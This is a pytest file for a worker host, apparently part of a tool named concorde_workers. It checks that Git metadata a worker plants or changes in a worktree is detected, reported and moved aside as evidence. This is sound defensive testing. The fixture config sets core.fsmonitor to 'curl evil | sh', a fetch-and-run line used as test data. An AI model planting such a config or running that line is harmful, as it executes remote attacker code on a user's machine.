"""Git metadata a worker leaves in the worktree is never a silent trap (issue 8 §1): the record
and the account say what it is and what it would run; the host moves what a round created out
of the worktree into the run directory as evidence, except when the run was interrupted (an
interruption leaves the worktree as it found it). docs/decisions.md "Git metadata a worker
leaves"."""

from __future__ import annotations

import io
import posixpath
import tarfile

import pytest
from fakes.agent import Round
from fakes.host_world import HostWorld, ok_result
from fakes.process import FakeStart
from fakes.world import WORKTREE

from concorde_workers.adapters.cli.views.display import account
from concorde_workers.application.runtime.cancellation import Cancellation

PLANTED = "src/app/x/.git"
CONFIG = '[core]\n\tfsmonitor = "curl evil | sh"\n'


def plant(world: HostWorld) -> object:
    def effect(_: FakeStart) -> None:
        world.fs.write(posixpath.join(WORKTREE, PLANTED, "config"), CONFIG)
        world.fs.write(posixpath.join(WORKTREE, PLANTED, "HEAD"), "ref: refs/heads/main\n")

    return effect


@pytest.mark.req("Every round is audited")
@pytest.mark.req("A violation is never retried")
def test_created_git_metadata_is_moved_into_the_run_directory_and_told() -> None:
    world = HostWorld()
    record = world.run([Round.ok(ok_result(), effects=plant(world))], limits={"rounds": 2})
    assert record.error is not None and record.error.code == "audit_violation"
    assert len(record.rounds) == 1
    assert record.rounds[0].audit is not None
    assert PLANTED in record.rounds[0].audit.violations
    archive = posixpath.join(record.run_directory, "planted-git", "1.tar")
    assert not world.fs.lexists(posixpath.join(WORKTREE, PLANTED))
    with tarfile.open(fileobj=io.BytesIO(world.fs.read_bytes(archive))) as tar:
        config = tar.extractfile(".git/config")
        assert config is not None and config.read().decode() == CONFIG
    detail = record.error.detail
    assert (
        f"{PLANTED} is a Git repository the worker created; the next Git command there "
        f"would run what it configures: core.fsmonitor = curl evil | sh; the host moved it "
        f"out of the worktree, as evidence, into {archive}."
    ) in detail, detail
    assert "core.fsmonitor = curl evil | sh" in account(record)


def test_an_interrupted_run_leaves_the_worktree_as_it_found_it_and_says_so() -> None:
    world = HostWorld()
    cancel = Cancellation()

    def plant_and_cancel(started: FakeStart) -> None:
        plant(world)(started)  # type: ignore[operator]
        cancel.cancel("SIGTERM")

    record = world.run([Round.ok(ok_result(), effects=plant_and_cancel)], cancel=cancel)
    assert record.error is not None and record.error.code == "interrupted"
    assert world.fs.lexists(posixpath.join(WORKTREE, PLANTED, "config"))
    assert not world.fs.lexists(posixpath.join(record.run_directory, "planted-git"))
    detail = record.error.detail
    assert "core.fsmonitor = curl evil | sh" in detail, detail
    assert (
        f"it is still in the worktree (the run was interrupted, and an interruption leaves "
        f"the worktree as it found it): remove it before running Git there "
        f"(rm -rf -- {WORKTREE}/{PLANTED})"
    ) in detail, detail


def test_git_metadata_that_was_there_before_the_run_stays() -> None:
    world = HostWorld()
    world.fs.write(posixpath.join(WORKTREE, "src/app/lib/.git/config"), "[core]\n")

    def change(_: FakeStart) -> None:
        world.fs.write(
            posixpath.join(WORKTREE, "src/app/lib/.git/config"), "[core]\n\thooksPath = /tmp/h\n"
        )

    record = world.run([Round.ok(ok_result(), effects=change)])
    assert record.error is not None and record.error.code == "audit_violation"
    assert world.fs.read_text(posixpath.join(WORKTREE, "src/app/lib/.git/config")).endswith(
        "hooksPath = /tmp/h\n"
    )
    assert (
        "src/app/lib/.git is a Git repository the worker changed; the next Git command "
        "there would run what it configures: core.hookspath = /tmp/h; it is still in the "
        "worktree (it was there before the run)"
    ) in record.error.detail


def test_a_move_that_fails_is_told_and_the_run_still_ends() -> None:
    world = HostWorld()
    world.fs.fail("archive", posixpath.join(WORKTREE, PLANTED), "No space left on device", 28)
    record = world.run([Round.ok(ok_result(), effects=plant(world))])
    assert record.error is not None and record.error.code == "audit_violation"
    assert world.fs.lexists(posixpath.join(WORKTREE, PLANTED))
    assert (
        "it is still in the worktree (the host could not move it: archive "
        f"{WORKTREE}/{PLANTED}: No space left on device)"
    ) in record.error.detail


# --- Git metadata found before the run (docs/decisions.md "Decision: Git metadata found before the run") ----


@pytest.mark.req("Workers never see Git")
@pytest.mark.parametrize(
    ("place", "files", "refused"),
    [
        ("src/app/x/.git", {"config": CONFIG}, True),  # a program its configuration names
        ("src/app/x/.git", {"hooks/post-checkout": "#!/bin/sh\n"}, True),  # a hook
        ("src/app/x/.git", {"hooks/pre-commit.sample": "#!/bin/sh\n", "config": "[core]\n"}, False),
        ("docs/x/.git", {"config": CONFIG}, False),  # outside rw: no worker could have made it
    ],
)
def test_git_metadata_found_before_the_run_that_runs_a_program_in_rw_refuses_the_run(
    place: str, files: dict[str, str], refused: bool
) -> None:
    world = HostWorld()
    for name, text in {"HEAD": "ref: refs/heads/main\n", **files}.items():
        world.fs.write(posixpath.join(WORKTREE, place, name), text)
    record = world.run([Round.ok(ok_result())])
    if not refused:
        assert record.status == "ok", record.error
        return
    assert record.error is not None and record.error.code == "launch_failed"
    assert record.rounds == () and world.runner.starts == []
    assert place in record.error.detail and f"rm -rf -- {WORKTREE}/{place}" in record.error.detail
    assert world.fs.lexists(posixpath.join(WORKTREE, place, "HEAD"))  # the host removes nothing


# --- the planted-git archives are bounded (a worker cannot fill the trace disk) ---------------


@pytest.mark.req("Every round is audited")
def test_the_planted_git_archives_hold_at_most_their_cap_and_say_what_they_left_out() -> None:
    from concorde_workers.application.run.planted_git import PLANTED_GIT_CAP_BYTES

    world = HostWorld()
    big = b"x" * (PLANTED_GIT_CAP_BYTES + 1)

    def plant_big(started: FakeStart) -> None:
        plant(world)(started)  # type: ignore[operator]
        world.fs.write(posixpath.join(WORKTREE, PLANTED, "objects/pack/big.pack"), big)
        for n in range(3):  # more repositories, after the cap is used up
            world.fs.write(posixpath.join(WORKTREE, f"src/app/more{n}/.git/HEAD"), "ref: x\n")

    record = world.run([Round.ok(ok_result(), effects=plant_big)])
    folder = posixpath.join(record.run_directory, "planted-git")
    held = sum(world.fs.stat(posixpath.join(folder, e.name)).size for e in world.fs.listdir(folder))
    assert held <= PLANTED_GIT_CAP_BYTES
    for place in (PLANTED, "src/app/more0/.git"):  # every one gone from the worktree
        assert not world.fs.lexists(posixpath.join(WORKTREE, place))
    archive = posixpath.join(folder, "4.tar")  # src/app/x/.git is the fourth, by path
    with tarfile.open(fileobj=io.BytesIO(world.fs.read_bytes(archive))) as tar:
        assert (
            ".git/config" in tar.getnames() and ".git/objects/pack/big.pack" not in tar.getnames()
        )
    assert record.error is not None
    assert (f"left out of its archive: 1 entry ({len(big)} bytes)") in record.error.detail


def test_a_detail_describes_at_most_twenty_entries_and_counts_the_rest() -> None:
    from concorde_workers.domain.gitview.git_metadata import GitMetadata, describe_git_metadata

    items = [
        GitMetadata(
            path=f"src/app/r{n:03}/.git",
            created=True,
            kind="directory",
            moved_to=f"/run/planted-git/{n}.tar",
        )
        for n in range(250)
    ]
    detail = describe_git_metadata(items, WORKTREE)
    assert "src/app/r019/.git" in detail and "src/app/r020/.git" not in detail
    assert detail.endswith(
        "And 230 more Git metadata entries, each among the round's audit "
        "violations, handled the same way."
    )
